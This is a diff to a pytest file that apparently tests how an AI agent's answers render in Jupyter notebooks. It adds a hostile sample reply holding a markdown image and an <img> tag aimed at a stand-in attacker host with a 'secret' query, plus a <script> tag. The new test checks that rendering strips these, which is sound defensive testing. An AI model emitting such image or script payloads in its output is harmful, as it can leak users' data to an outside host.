@@ -42,8 +42,13 @@ agent_with(
     engine=CompactionEngine(policy="early"),
 ).chat("hi")
 """
+HOSTILE = (
+    "'![x](https://evil.example/?secret) <img src=//evil.example> <script>1</script>'"
+)
 CELLS = {
     "begin": BEGIN,
+    "hostile": f'agent_with(says({HOSTILE})).chat("hi")',
+    "hostile asked": f'agent_with(says({HOSTILE})).ask("hi")',
     "last line": 'agent = agent_with(says("Hello **you**."))\nagent.chat("hi")',
     "assigned": 'answer = agent_with(says("Hello **you**.")).chat("hi")',
     "shown again": "answer",
@@ -77,6 +82,16 @@ def markdown(outputs: list[nbformat.NotebookNode]) -> list[str]:
 @pytest.mark.parametrize("cell", ["last line", "assigned", "shown again", "asked"])
 def test_an_answer_appears_once_as_markdown(shown, cell: str):
     assert markdown(shown[cell]) == ["Hello **you**."]
+
+
+@pytest.mark.kernel
+def test_an_answer_is_shown_as_html_whose_images_are_links(shown):
+    (streamed,) = shown["hostile"]
+    (asked,) = shown["hostile asked"]
+    for output in (streamed, asked):
+        assert "<img" not in output.data["text/html"]
+        assert "<script" not in output.data["text/html"]
+        assert "https://evil.example/?secret" in output.data["text/html"]
 
 
 @pytest.mark.kernel
